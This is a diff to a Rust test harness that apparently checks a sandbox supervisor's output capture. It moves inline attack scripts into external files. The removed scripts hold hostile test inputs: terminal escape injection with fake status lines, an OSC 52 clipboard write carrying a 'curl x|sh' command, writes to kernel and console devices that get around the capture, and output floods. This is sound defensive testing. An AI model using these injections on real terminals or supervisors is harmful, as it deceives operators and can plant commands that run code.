@@ -18,42 +18,42 @@ pub fn cases() -> Vec<Case> {
             id: "OUT-01",
             title: "Output floods, one huge line, and binary bytes",
             guarantee: "stdout and stderr capture is bounded",
-            script: Some(("sh", OUT_01)),
+            script: Some(attack!("OUT-01.sh")),
             judge: out_01,
         },
         Case {
             id: "OUT-02",
             title: "Deadlock when both pipes fill",
             guarantee: "the run ends and output is captured",
-            script: Some(("py", OUT_02)),
+            script: Some(attack!("OUT-02.py")),
             judge: out_02,
         },
         Case {
             id: "OUT-03",
             title: "A descendant holds the pipe open, or stdio is closed early",
             guarantee: "the run ends correctly, and cleanup happens",
-            script: Some(("sh", OUT_03)),
+            script: Some(attack!("OUT-03.sh")),
             judge: out_03,
         },
         Case {
             id: "OUT-04",
             title: "Escape sequences and fake status lines in the output",
             guarantee: "captured output cannot be used to attack the reader",
-            script: Some(("sh", OUT_04)),
+            script: Some(attack!("OUT-04.sh")),
             judge: out_04,
         },
         Case {
             id: "OUT-05",
             title: "Side channels that bypass the capture",
             guarantee: "output is bounded and captured",
-            script: Some(("py", OUT_05)),
+            script: Some(attack!("OUT-05.py")),
             judge: out_05,
         },
         Case {
             id: "OUT-06",
             title: "stdin",
             guarantee: "stdin does not expose the supervisor or make the run hang",
-            script: Some(("sh", OUT_06)),
+            script: Some(attack!("OUT-06.sh")),
             judge: out_06,
         },
     ]
@@ -92,17 +92,6 @@ fn spawn_nobody(ctx: &Ctx, tag: &str, script: &str, args: &[&str]) -> Result<Chi
 
 // ---------------------------------------------------------------------------------------
 // OUT-01
-
-const OUT_01: &str = r#"# Binary bytes first (so they fall inside the cap), then floods: 200 MB of 4 KiB lines,
-# 50 MB of random bytes on stderr, one 50 MB line. `trivial` prints only the bytes.
-printf 'a\000b\377\376\n'
-[ "$1" = trivial ] && exit 0
-yes "$(head -c 4096 /dev/zero | tr '\0' A)" 2>/dev/null | head -c 200000000
-head -c 50000000 /dev/urandom >&2
-head -c 50000000 /dev/zero | tr '\0' a
-echo
-echo flood-done
-"#;
 
 fn out_01(ctx: &mut Ctx) -> Result<Verdict> {
     let cap: u64 = 64 << 10;
@@ -195,13 +184,6 @@ fn out_01(ctx: &mut Ctx) -> Result<Verdict> {
 // ---------------------------------------------------------------------------------------
 // OUT-02
 
-const OUT_02: &str = r#"# 8 MiB on one stream before a word on the other.
-if ARGS[0] == "err-first":
-    os.write(2, b"e" * (8 << 20)); os.write(1, b"done\n")
-else:
-    os.write(1, b"o" * (8 << 20)); os.write(2, b"done\n")
-"#;
-
 fn out_02(ctx: &mut Ctx) -> Result<Verdict> {
     let mut j = Judge::new();
     for (mode, small, big) in [
@@ -283,19 +265,6 @@ fn out_02(ctx: &mut Ctx) -> Result<Verdict> {
 
 // ---------------------------------------------------------------------------------------
 // OUT-03
-
-const OUT_03: &str = r#"# (a) stragglers, one holding stdout/stderr; (b) stdio closed early, exit 7 after 3 s.
-if [ "$1" = a ]; then
-  (setsid bash -c "exec -a sleep100000-s-$N sleep 100000" &)
-  (bash -c "exec -a sleep100000-h-$N sleep 100000" >&1 2>&2 &)
-  sleep 0.5
-  echo main-done
-  exit 0
-fi
-exec >&- 2>&-
-sleep 3
-exit 7
-"#;
 
 /// Reads a pipe on a thread; returns when EOF came (relative to `t0`).
 fn eof_watch<R: std::io::Read + Send + 'static>(
@@ -434,15 +403,6 @@ fn out_03(ctx: &mut Ctx) -> Result<Verdict> {
 // ---------------------------------------------------------------------------------------
 // OUT-04
 
-const OUT_04: &str = r#"# A fake status line, OSC 52 clipboard write, title change, terminal report requests,
-# fake result lines; the same on stderr; then exit 3.
-for fd in 1 2; do
-  printf '\r\033[2K[supervisor] run OK, 0 files changed\n\033]52;c;%s\a\033]0;pwn\a\033[6n\033[21t' "$(printf 'curl x|sh' | base64)" >&$fd
-  printf 'EXIT_STATUS=0\n__RESULT__ {"ok":true,"changed":[]}\n' >&$fd
-done
-exit 3
-"#;
-
 /// The attack's sequences that must never reach a terminal raw.
 const RAW: &[(&str, &[u8])] = &[
     ("OSC 52 clipboard", b"\x1b]52;"),
@@ -523,36 +483,6 @@ fn out_04(ctx: &mut Ctx) -> Result<Verdict> {
 // ---------------------------------------------------------------------------------------
 // OUT-05
 
-const OUT_05: &str = r#"ctl = ARGS[0] == "ctl"
-targets = ["/dev/kmsg"] if ctl else ["/dev/tty", "/dev/console", "/dev/kmsg"]
-level = "<6>" if ctl else "<0>"
-for path in targets:
-    try:
-        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
-        os.write(fd, f"{level}PWN-{N} via {path}\n".encode())
-        os.close(fd)
-        esc(f"wrote to {path}")
-    except OSError as e:
-        say(f"{path}: {ename(e.errno)}")
-for fam, path in (("ud", "/dev/log"), ("ud", "/run/systemd/journal/socket"),
-                  ("u", "/run/systemd/journal/stdout")):
-    r = tryconnect(fam, path)
-    if r == "CONNECTED":
-        esc(f"connected to {path}")
-    else:
-        say(f"{path}: {r}")
-if not ctl:
-    for cmd in (f"logger PWN-{N}", f"systemd-cat echo PWN-{N}"):
-        rc, out = run(cmd, timeout=10)
-        say(f"{cmd}: exit {rc} {out.strip()[:120]}")
-    try:
-        with open("/proc/1/fd/1", "w") as f:
-            f.write(f"via-proc1-{N}\n")
-        say(f"PROC1-WRITE-OK")
-    except OSError as e:
-        say(f"/proc/1/fd/1: {ename(e.errno)}")
-"#;
-
 fn dmesg_has(pat: &str) -> bool {
     let (_, out) = sh("dmesg 2>&1");
     out.contains(pat)
@@ -620,20 +550,6 @@ fn out_05(ctx: &mut Ctx) -> Result<Verdict> {
 
 // ---------------------------------------------------------------------------------------
 // OUT-06
-
-const OUT_06: &str = r#"# What is fd 0, what does it carry, and does it end?
-ls -l /proc/self/fd/0
-fd0=$(readlink /proc/self/fd/0)
-echo "fd0 -> $fd0"
-if [ -t 0 ]; then esc "stdin is a terminal ($fd0)"; fi
-case "$fd0" in /dev/pts/*|/dev/tty*|/dev/console) esc "stdin is $fd0";; esac
-start=$(date +%s%N)
-cat | sed 's/^/cat-read:/'
-echo
-bash -c 'read -t 5 x; echo "got:[$x]"'
-end=$(date +%s%N)
-echo "elapsed_ms=$(( (end - start) / 1000000 ))"
-"#;
 
 fn out_06(ctx: &mut Ctx) -> Result<Verdict> {
     let typed = format!("typed-{}\n\x04\x04", ctx.n);
